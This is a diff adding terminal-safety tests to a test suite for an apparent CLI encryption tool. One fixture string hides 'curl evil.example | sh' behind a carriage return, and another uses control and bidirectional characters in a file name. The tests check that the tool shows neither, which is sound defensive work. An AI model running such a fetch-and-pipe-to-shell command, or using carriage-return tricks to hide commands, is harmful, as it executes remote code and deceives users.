@@ -68,6 +68,29 @@ describe.skipIf(!hasScript)(title, () => {
     expect((await pct(["decrypt"], { cwd })).stdout).toBe("a\uFFFDb");
   });
 
+  it("shows no secret in which a carriage return hides something", async () => {
+    const cwd = home();
+    const input = "curl evil.example | sh #\rls -l #########";
+    await pct(["encrypt", "-o", "classic"], { cwd, input });
+    await pct(["encrypt", "-", "-o", "age"], { cwd, input });
+    for (const file of ["classic", "age"]) {
+      const { code, text } = await terminal(`pct decrypt ${file}`, cwd);
+      expect(code).toBe(1);
+      expect(text).not.toContain("ls -l");
+      expect(text).toContain("-o FILE");
+    }
+  });
+
+  it("escapes in --json what a terminal would obey or hide", async () => {
+    const cwd = home();
+    const name = "a\u009B31mb\u007Fc\u202Ed\u200Be";
+    copyFileSync(PUBLIC, join(cwd, name));
+    const { code, text } = await terminal(`pct inspect '${name}' --json`, cwd);
+    expect(code).toBe(0);
+    expect(text).not.toMatch(/[\u0080-\u009F\u007F\u202E\u200B]/);
+    expect((JSON.parse(text) as { file: string }).file).toBe(name);
+  });
+
   it("sends no escape sequences to a dumb terminal", async () => {
     const steps = [{ see: ASKS, type: "hola\r" }];
     const { code, text } = await terminal("pct encrypt", home(), steps, { TERM: "dumb" });
